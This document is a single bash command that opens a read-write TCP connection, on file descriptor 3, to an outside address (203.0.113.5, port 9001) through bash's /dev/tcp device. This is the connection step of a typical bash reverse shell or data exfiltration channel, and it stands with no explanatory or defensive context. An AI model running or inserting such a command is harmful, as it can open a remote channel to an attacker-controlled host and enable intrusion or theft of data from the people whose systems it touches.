exec 3<>/dev/tcp/203.0.113.5/9001
